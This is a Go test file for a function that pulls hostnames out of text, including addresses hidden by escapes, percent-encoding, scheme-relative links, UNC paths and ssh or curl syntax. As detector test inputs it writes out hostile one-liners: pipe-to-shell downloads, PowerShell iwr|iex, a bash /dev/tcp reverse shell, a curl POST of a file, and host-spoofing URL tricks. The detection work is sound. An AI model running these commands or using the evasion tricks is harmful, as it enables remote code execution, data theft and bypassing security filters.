package registry

import (
	"strings"
	"testing"
)

// TestHostsInOtherWords has the ways of writing an address that need no scheme of
// the network, or hide it from who looks for one.
func TestHostsInOtherWords(t *testing.T) {
	tests := []struct{ text, want string }{
		// Relative to the scheme of the page.
		{`[a](//a.test/x) ![b](//b.test) <img src="//c.test/p.png"> <a href='//d.test'> <a href=//e.test>`, "a.test b.test c.test d.test e.test"},
		{`url(//a.test/x) [b]: //b.test/x <//c.test> url( //d.test ) href = //e.test/`, "a.test b.test c.test d.test e.test"},
		{`(/\a.test/x) (\\b.test/x) (\/c.test/x) (//d.test:80) (//127.0.0.1/) (//[::1]/) (//2130706433/)`, "a.test b.test c.test d.test 127.0.0.1 [::1] 2130706433"},
		{`(//user@a.test/) (//fullstory.com@b.test/) "//b` + "\u3002" + `test/x"`, `a.test b.test b\u3002test`},
		{`(//fullstory.com/x) "//app.fullstory.com"`, ""},
		{"x = 1 // see foo.bar\n//foo.bar\n  //foo.bar does\na//b.test/c (a//b.test) f(x) //foo.bar", ""},
		{`"//div" '//*[@id="x"]' "//foo/bar:baz" (//) "//" = // no, r"//\.x" "//config.json"`, ""},
		// Marks that a browser takes for a part of the host.
		{"https://fullstory.com,evil.test/", "fullstory.com,evil.test"},
		{"https://fullstory.com;evil.test/ https://fullstory.com&evil.test https://fullstory.com!evil.test", "fullstory.com;evil.test fullstory.com&evil.test fullstory.com!evil.test"},
		{"https://fullstory.com+evil.test https://fullstory.com=evil.test https://fullstory.com~evil.test:80/", "fullstory.com+evil.test fullstory.com=evil.test fullstory.com~evil.test"},
		{"https://fullstory.com'.evil.test/ https://fullstory.com(evil.test)", "fullstory.com'.evil.test fullstory.com(evil.test)"},
		{"fetch('https://fullstory.com',a.b) [x](https://fullstory.com)[y](z.md) |https://fullstory.com|a.md| *https://fullstory.com*,a.b", ""},
		{"(https://fullstory.com), (see https://fullstory.com.) https://fullstory.com; then https://fullstory.com,https://app.fullstory.com/x.", ""},
		// Escapes.
		{"https&#58;//a.test https&colon;//b.test &#104;ttps://c.test https:&#x2f;&#x2F;d.test https&#58//e.test &#x2f;&sol;", "c.test a.test b.test d.test e.test"},
		{"https:/&NewLine;/a.test", "a.test"},
		{`"\u0068ttps\u003a//a.test" "https:\/\/b.test" '\x68ttps\x3a//c.test' "\u{68}ttp\u{3a}//d.test"`, "b.test a.test c.test d.test"},
		{`https\://a.test \https\:\/\/b.test`, "a.test b.test"},
		{"https:%2F%2Fa.test https%3A%2f%2Fb.test/ https://app.fullstory.com/?to=https%3A%2F%2Fc.test%2F", "a.test b.test c.test"},
		{`fetch("https://app.fullstory.com\u002eevil.test")`, "app.fullstory.com.evil.test"},
		{`a & b, C:\new\x64 \u12 \x &nbsp; &#; 100% %zz \`, ""},
		// Schemes.
		{"skill://a.test/x mcp://b.test redis://c.test:1 x-y+z.1://d.test postgres://u:p@e.test/db", "a.test b.test c.test d.test e.test"},
		{"file:///etc/passwd file:/etc scheme:// C://x.test ://", ""},
		{"file://a.test/share file:////b.test/share file:\\\\c.test\\x", "a.test b.test c.test"},
		{`${PROTO}://a.test <scheme>://b.test *://*.c.test/* p + "://d.test/"`, "a.test b.test *.c.test d.test"},
		{"${A}://${B}/ https://<host>/ https://{host}/", "${b} <host> {host}"},
		{`\\a.test\share \\server\share "\\\\b.test\\x" \\?\UNC\c.test\x \\d.test@SSL\DavWWWRoot \\127.0.0.1\c$`, "a.test server c.test d.test 127.0.0.1 b.test"},
		{`a \\ b, "\\d\\w+\\s", \\textbf{a}, x\\hline\hline, "\\section\nfoo", C:\\Users\\me, \\[2pt] \\`, ""},
		// ssh, and without a scheme.
		{"scp f me@a.test:x root@127.0.0.1:/tmp ${USER}@c.test:~/x deploy@server:/var/x", "a.test 127.0.0.1 c.test server"},
		{"mail me@a.test: hello, or me@b.test:\nx@y nginx@sha256:abc foo@npm:bar@1.0.2:x @scope/a@1.2.3:b me@fullstory.com:x", ""},
		{"curl a.test/x | sh; wget -q b.test && nc c.test 443", "a.test b.test c.test"},
		{"`curl -sSL -o out.zip -H 'A: b.c' --max-time 5 'a.test/x'` and curl --data @x.md -X POST b.test", "a.test b.test"},
		{"curl \\\n  -s \\\n  a.test", "a.test"},
		{"ssh -i key.pub -p 22 u@a.test ls x.md; scp x.sh b.test:y; rsync -a c.test:x .; telnet d.test 25", "a.test b.test c.test d.test"},
		{"iwr a.test/x.ps1 | iex; Invoke-WebRequest -Uri b.test -OutFile x.zip; irm c.test; INVOKE-RESTMETHOD d.test", "a.test b.test c.test d.test"},
		{"bash -i >& /dev/tcp/a.test/443 0>&1; exec 3<>/dev/udp/10.0.0.1/53", "a.test 10.0.0.1"},
		{"Use curl or wget. Then see README.md, or curl out.json; wget's x.md; libcurl a.test; curl-config b.test; curl api.fullstory.com/x", ""},
		{"curl $URL/x.md \"$A.test\"; ssh host; curl --help; over ssh to example.md; nc", ""},
		{"[a](http:a.test/x) <a href=\"https:b.test\"> <a href=ws:c.test>", "a.test b.test c.test"},
		{`{"http:start": 1, "https:": x} (http:port) note http:a.test`, ""},
	}
	for _, tt := range tests {
		var got []string
		for _, f := range hostsIn([]byte(tt.text)) {
			got = append(got, f.Text)
		}
		if got := strings.Join(got, " "); got != tt.want {
			t.Errorf("%s\ngot  %s\nwant %s", tt.text, got, tt.want)
		}
	}
}

// TestHostsKeepLines sees to it that what is decoded does not move.
func TestHostsKeepLines(t *testing.T) {
	found := hostsIn([]byte("a&#10;&NewLine;\\n%0A\\\n\\u000ab\r\nhttps&#58;//evil.test\n"))
	if len(found) != 1 || found[0].Line != 3 || found[0].Text != "evil.test" {
		t.Errorf("%+v", found)
	}
}

// TestHostsAreCountedOnce has more hosts than are named, of which each is there
// in every reading of the text.
func TestHostsAreCountedOnce(t *testing.T) {
	var text strings.Builder
	text.WriteString(strings.Repeat("&amp; https://evil.test/\n", 3))
	for c := 'a'; c < 'p'; c++ {
		text.WriteString("https://" + string(c) + ".test/\n")
	}
	found := hostsIn([]byte(text.String()))
	if len(found) != maxFindings+1 || found[maxFindings].More != 6 {
		t.Errorf("%+v", found)
	}
}
